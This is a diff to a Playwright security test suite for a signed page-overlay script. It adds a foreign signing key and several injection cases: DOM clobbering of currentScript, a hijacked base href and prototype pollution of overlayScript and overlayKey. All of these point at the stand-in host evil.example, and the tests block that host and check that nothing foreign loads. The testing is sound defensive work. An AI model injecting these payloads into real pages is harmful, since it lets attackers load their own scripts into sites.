@@ -1,4 +1,4 @@
-import { createPrivateKey, sign } from 'crypto';
+import { createPrivateKey, createPublicKey, sign } from 'crypto';
 import { expect, test, type BrowserContext, type Page } from '@playwright/test';
 import { rows, userAgent } from './rows';
 
@@ -200,6 +200,14 @@ const pkcs8 = Buffer.from('302e020100300506032b657004220420', 'hex');
 const keyOf = (seed: string) =>
   createPrivateKey({ key: Buffer.concat([pkcs8, Buffer.from(seed, 'base64')]), format: 'der', type: 'pkcs8' });
 const own = keyOf(process.env.FOOTFALL_OVERLAY_KEY!);
+/** Of somebody else. */
+const foreign = {
+  privateKey: keyOf(Buffer.alloc(32, 1).toString('base64')),
+  publicKey: createPublicKey(keyOf(Buffer.alloc(32, 1).toString('base64')))
+    .export({ format: 'der', type: 'spki' })
+    .subarray(-32)
+    .toString('base64'),
+};
 
 interface Claims {
   page?: unknown;
@@ -236,7 +244,7 @@ const bad: Array<[name: string, hash: (at: string) => string, folder?: string]> 
   ['a tampered picture', (at) => tampered(at, 1)],
   ['a tampered signature', (at) => tampered(at, 2)],
   ['claims of another link', (at) => swapped(at, { page: `${site}/page/other` })],
-  ['another key', (at) => link(at, {}, keyOf(Buffer.alloc(32, 1).toString('base64')))],
+  ['another key', (at) => link(at, {}, foreign.privateKey)],
   ['no signature', (at) => good(at).replace(/\.[^.]*$/, '')],
   ['an empty signature', (at) => good(at).replace(/[^.]*$/, '')],
   ['a signature of zeros', (at) => good(at).replace(/[^.]*$/, 'A'.repeat(86))],
@@ -296,19 +304,49 @@ test('nothing is loaded, and no event lost, with a link that is not good', async
   }
 });
 
-test('an element that is called like the script cannot say where the overlay comes from', async ({ page }) => {
-  await page.route('**/page/clobbered', async (route) => {
-    const answer = await route.fetch();
-    const clobber = '<img name="currentScript" src="https://evil.example/x/footfall.js">';
-    const body = (await answer.text()).replace('<script', `${clobber}<script`);
-    await route.fulfill({ response: answer, body });
+// What else a page can be made to hold by who may put elements, but no scripts, into it; or settings into the prototype of all objects.
+const evil = 'https://evil.example/';
+const injections: Array<[name: string, html: (page: string) => string, loaded: string[]]> = [
+  [
+    'an element that is called like the script',
+    (page) => page.replace('<script', `<img name="currentScript" src="${evil}footfall.js"><script`),
+    [],
+  ],
+  [
+    'another base for addresses',
+    (page) => page.replace('<script src="/init', `<base href="${evil}"><script src="${site}/init`),
+    [`${site}/footfall-overlay.js`],
+  ],
+  [
+    'a script that comes from nowhere',
+    (page) => page.replace('<script', `<script>Object.prototype.overlayScript = '${evil}overlay.js'</script><script`),
+    [`${site}/footfall-overlay.js`],
+  ],
+  [
+    'a key that comes from nowhere',
+    (page) =>
+      page
+        .replace(/key=[^"]*/, '')
+        .replace('<script', `<script>Object.prototype.overlayKey = '${foreign.publicKey}'</script><script`),
+    [],
+  ],
+];
+
+for (const [name, html, loaded] of injections) {
+  test(`nothing else is loaded with ${name}`, async ({ page }) => {
+    await page.route('**/page/injected', async (route) => {
+      const answer = await route.fetch();
+      await route.fulfill({ response: answer, body: html(await answer.text()) });
+    });
+    await page.route('https://evil.example/**', (route) => route.abort());
+    const asked: string[] = [];
+    page.on('request', (request) => asked.push(request.url()));
+    const key = name.startsWith('a key') ? foreign.privateKey : own;
+    await page.goto(`${site}/page/injected#${link('/page/injected', {}, key)}`);
+    await page.waitForTimeout(1000);
+    expect(asked.filter((url) => url.endsWith('overlay.js'))).toEqual(loaded);
   });
-  const asked: string[] = [];
-  await page.route('https://evil.example/**', (route) => (asked.push(route.request().url()), route.abort()));
-  await page.goto(`${site}/page/clobbered#${good('/page/clobbered')}`);
-  await page.waitForTimeout(1000);
-  expect(asked.filter((url) => url.includes('overlay'))).toEqual([]);
-});
+}
 
 test('a picture that cannot be read draws nothing, and the page works', async ({ page }) => {
   const errors: string[] = [];
